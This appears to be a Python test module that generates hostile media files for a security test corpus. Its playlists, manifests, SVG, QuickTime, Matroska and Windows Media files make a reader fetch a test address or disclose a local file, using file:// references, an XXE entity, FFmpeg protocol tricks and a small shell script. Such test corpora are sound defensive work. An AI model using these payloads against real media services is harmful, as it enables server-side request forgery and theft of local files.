"""Files that are programs for their reader: each names an address to fetch, or a file of this machine to tell."""

import struct

from tests.hostile_media import ebml, mp4
from tests.hostile_media.corpus import Workshop, hostile

_HLS = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:5\n{before}#EXTINF:5,\n{target}\n#EXT-X-ENDLIST\n"

# How a target is spelled: as it is, and through protocols that read one out of another.
_SPELLINGS = {
    "http": "{address}/film.ts",
    "tcp": "tcp://{host}",
    "rtmp": "rtmp://{host}/film",
    "file_url": "file://{secret}",
    "path": "{secret}",
    "subfile": "subfile,,start,0,end,64,,:file:{secret}",
    "concat": "concat:{address}/head|file:{secret}",
    "crypto": "crypto:{address}/film.ts",
    "data": "data:application/x-mpegURL,%23EXTM3U%0A%23EXTINF:5,%0A{address}/film.ts",
    "pipe": "pipe:0",
}

_TEXTS = {
    "master.m3u8": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{address}/other.m3u8\n",
    "media.mp4": '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{address}/a.m3u8"\n',
    "dash.mpd": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
    '<BaseURL>{address}/</BaseURL><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
    '<SegmentTemplate media="$Number$.m4s" initialization="i.mp4" duration="1"/></Representation></AdaptationSet>'
    "</Period></MPD>",
    "entities.mp4": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}">]><MPD>&s;</MPD>',
    "list.mp4": "ffconcat version 1.0\nfile '{secret}'\nduration 5\noption safe 0\n",
    "session.sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n",
    "picture.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="64">'
    '<image x:href="{address}/p.png"/><image x:href="file://{secret}"/></svg>',
    "redirect.asx": '<asx version="3.0"><entry><ref href="{address}/film.wmv"/></entry></asx>',
    "redirect.asf": "[Reference]\nRef1={address}/film.asf\nRef2=file://{secret}\n",
    "shell.mp4": "#!/bin/sh\ntouch {secret}.touched\n",
    "words.ass": "[Script Info]\n[Fonts]\nfontname: {secret}\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,,,0,0,0,,x\n",
}  # fmt: skip


def _filled(shop: Workshop, text: str) -> str:
    return text.format(address=shop.address, host=shop.address.removeprefix("http://"), secret=shop.secret)


@hostile(".mp4", *_SPELLINGS)
def playlist(shop: Workshop, spelling: str) -> bytes:
    """An HLS playlist called a film, whose segment is an address or a file of this machine."""
    return _HLS.format(before="", target=_filled(shop, _SPELLINGS[spelling])).encode()


@hostile(".m3u8", "key", "map")
def playlist_with(shop: Workshop, what: str) -> bytes:
    """An HLS playlist whose key, or whose header, is to be fetched."""
    before = {
        "key": f'#EXT-X-KEY:METHOD=AES-128,URI="{shop.address}/key"\n',
        "map": f'#EXT-X-MAP:URI="file://{shop.secret}"\n',
    }[what]
    return _HLS.format(before=before, target=f"{shop.address}/film.ts").encode()


@hostile("", *_TEXTS)
def text(shop: Workshop, name: str) -> bytes:
    """Playlists, manifests, scripts and pages of many kinds."""
    return _filled(shop, _TEXTS[name]).encode()


@hostile(".mp4", "mp4", "ts")
def playlist_and_film(shop: Workshop, name: str) -> bytes:
    """A playlist with a film behind it: whoever reads the beginning, and whoever searches, each find theirs."""
    return playlist(shop, "http") + bytes(shop.seed(name))


@hostile(".ts")
def film_and_playlist(shop: Workshop) -> bytes:
    """A film with a playlist behind it."""
    return bytes(shop.seed("ts")) + playlist(shop, "file_url")


@hostile("-%03d.jpg")
def picture_sequence(shop: Workshop) -> bytes:
    """A picture whose name is the pattern of a row of pictures."""
    return shop.drawn("-f", "lavfi", "-i", "testsrc2=s=64x48", "-frames:v", "1", "-update", "1", suffix=".jpg")


def _url(address: str) -> bytes:
    return mp4.box(b"url ", bytes(4), address.encode() + b"\0")


def _alias(path: str) -> bytes:
    """An alias of QuickTime: volume, folder, name, and the path in full."""
    spelled = path.encode()
    record = bytes(10) + b"\4disk".ljust(28, b"\0") + bytes(12) + b"\4film".ljust(64, b"\0") + bytes(16)
    record += struct.pack(">HH", 1, 1) + bytes(16) + struct.pack(">HH", 2, len(spelled)) + spelled
    return mp4.box(b"alis", bytes(4), record + b"\0" * (len(spelled) % 2) + b"\xff\xff\0\0")


@hostile(".mov", "url", "file", "alias", "urn")
def external_samples(shop: Workshop, how: str) -> bytearray:
    """A QuickTime film whose pictures lie in another file: at an address, or on this machine."""
    entry = {
        "url": lambda: _url(f"{shop.address}/film.mp4"),
        "file": lambda: _url(f"file://{shop.secret}"),
        "alias": lambda: _alias(str(shop.secret)),
        "urn": lambda: mp4.box(b"urn ", bytes(4), b"x\0" + shop.address.encode() + b"\0"),
    }[how]()
    reference = mp4.box(b"dref", struct.pack(">II", 0, 1), entry)
    outer = (b"moov", b"trak", b"mdia", b"minf", b"dinf")
    return mp4.replaced(shop.seed("moov_last"), b"dref", reference, outer)


@hostile(".mov")
def reference_movie(shop: Workshop) -> bytes:
    """A QuickTime film that is nothing but the address of another one."""
    target = f"{shop.address}/film.mov".encode() + b"\0"
    reference = mp4.box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(target)), target)
    return mp4.box(b"ftyp", b"qt  \0\0\2\0qt  ") + mp4.box(b"moov", mp4.box(b"rmra", mp4.box(b"rmda", reference)))


@hostile(".mkv")
def linked_segment(shop: Workshop) -> bytes:
    """A Matroska film that goes on in another file: by its unique number, and by its name on this machine."""
    info = ebml.element(
        ebml.INFO,
        ebml.element(b"\x73\xa4", bytes(range(16))),
        ebml.element(b"\x3e\xb9\x23", bytes(range(16, 32))),
        ebml.element(b"\x3e\x83\xbb", str(shop.secret).encode()),
        ebml.element(b"\x3c\x83\xab", shop.address.encode()),
    )
    atom = ebml.element(
        b"\xb6",
        ebml.number(b"\x91", 0), ebml.number(b"\x92", 10**9), ebml.element(b"\x6e\x67", bytes(range(16, 32))),
    )  # fmt: skip
    edition = ebml.element(b"\x45\xb9", ebml.number(b"\x45\xdd", 1), atom)
    return ebml.extended(shop.seed("mkv"), info, ebml.element(b"\x10\x43\xa7\x70", edition))


@hostile(".wmv")
def script_commands(shop: Workshop) -> bytearray:
    """A Windows Media film that carries the command to open an address."""
    data = shop.seed("asf")
    command = f"{shop.address}/film\0".encode("utf-16-le")
    kind = "URL\0".encode("utf-16-le")
    inside = bytes(16) + struct.pack("<HH", 1, 1) + struct.pack("<H", 3) + kind[:-2]
    inside += struct.pack("<IHH", 0, 0, len(command) // 2) + command
    guid = bytes.fromhex("301afb1e620bd011a39b00a0c90348f6")
    place = 30  # behind the header's own fields
    added = guid + struct.pack("<Q", 24 + len(inside)) + inside
    struct.pack_into("<Q", data, 16, struct.unpack_from("<Q", data, 16)[0] + len(added))
    struct.pack_into("<I", data, 24, struct.unpack_from("<I", data, 24)[0] + 1)
    data[place:place] = added
    return data
